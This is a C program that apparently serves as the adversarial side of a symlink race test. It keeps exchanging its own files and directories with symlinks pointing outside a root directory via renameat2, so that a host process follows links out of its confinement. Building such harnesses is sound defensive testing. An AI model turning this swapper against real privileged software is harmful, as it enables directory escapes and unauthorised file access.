/*
 * The hostile module of the race: swaps files and directories of its own for links that lead outside, as fast as the
 * kernel lets it, until its standard input ends. Prints how many swaps it made.
 *
 *   swapper ROOT OUTSIDE UID
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

/* One name that is now the real thing and now a link. */
struct pair {
  int at;
  const char *name, *other;
  char target[4096];
  int is_directory;
};

static unsigned long swaps;

static void make(const struct pair *p, const char *name) {
  if (p->is_directory) {
    int dir, deep;
    mkdirat(p->at, name, 0700);
    dir = openat(p->at, name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
    if (dir < 0) return;
    mkdirat(dir, "deep", 0700);
    deep = openat(dir, "deep/own", O_CREAT | O_WRONLY, 0600);
    if (deep >= 0) close(deep);
    symlinkat(p->target, dir, "ldeep");
    close(dir);
  } else {
    int file = openat(p->at, name, O_CREAT | O_WRONLY | O_NOFOLLOW, 0600);
    if (file < 0) return;
    if (write(file, "inside", 6) != 6) abort();
    close(file);
  }
}

/* -1: nothing there, 1: a link, 0: the real thing */
static int is_link(const struct pair *p, const char *name) {
  struct stat st;
  if (fstatat(p->at, name, &st, AT_SYMLINK_NOFOLLOW) != 0) return -1;
  return S_ISLNK(st.st_mode) ? 1 : 0;
}

/* The host replaces and removes: brings back one real thing and one link. */
static void repair(const struct pair *p) {
  int a = is_link(p, p->name), b = is_link(p, p->other);
  if (a + b == 1 && a >= 0 && b >= 0) return;
  if (b >= 0) {
    if (unlinkat(p->at, p->other, 0) != 0 && b == 0) unlinkat(p->at, p->other, AT_REMOVEDIR);
  }
  if (a == 1) make(p, p->other);
  else {
    symlinkat(p->target, p->at, p->other);
    if (a < 0) make(p, p->name);
  }
}

static void swap(int at, const char *one, const char *two) {
  if (syscall(SYS_renameat2, at, one, at, two, RENAME_EXCHANGE) == 0) swaps++;
}

int main(int argc, char **argv) {
  struct pair pairs[4];
  struct pollfd in = {.fd = 0, .events = POLLIN};
  unsigned long round;
  int root, a, i;
  if (argc != 4) return 2;
  if (geteuid() == 0) {
    gid_t id = (gid_t)atoi(argv[3]);
    if (setgid(id) != 0 || setuid(id) != 0) return 3;
  }
  root = open(argv[1], O_RDONLY | O_DIRECTORY);
  if (root < 0) return 4;
  mkdirat(root, "a", 0700);
  a = openat(root, "a", O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
  if (a < 0) return 5;
  pairs[0] = (struct pair){.at = root, .name = "a", .other = "la", .is_directory = 1};
  pairs[1] = (struct pair){.at = a, .name = "sub", .other = "lsub", .is_directory = 1};
  pairs[2] = (struct pair){.at = root, .name = "x", .other = "lx", .is_directory = 0};
  pairs[3] = (struct pair){.at = a, .name = "r", .other = "lr", .is_directory = 1};
  snprintf(pairs[0].target, sizeof pairs[0].target, "%s", argv[2]);
  snprintf(pairs[1].target, sizeof pairs[1].target, "%s/sub", argv[2]);
  snprintf(pairs[2].target, sizeof pairs[2].target, "%s/f", argv[2]);
  snprintf(pairs[3].target, sizeof pairs[3].target, "%s/r", argv[2]);
  for (i = 0; i < 4; i++) repair(&pairs[i]);
  puts("ready");
  fflush(stdout);
  for (round = 0;; round++) {
    for (i = 0; i < 4; i++) swap(pairs[i].at, pairs[i].name, pairs[i].other);
    swap(a, "r/deep", "r/ldeep");
    if (round % 16 == 0) {
      for (i = 0; i < 4; i++) repair(&pairs[i]);
      if (poll(&in, 1, 0) != 0) break;
    }
  }
  printf("%lu\n", swaps);
  return 0;
}
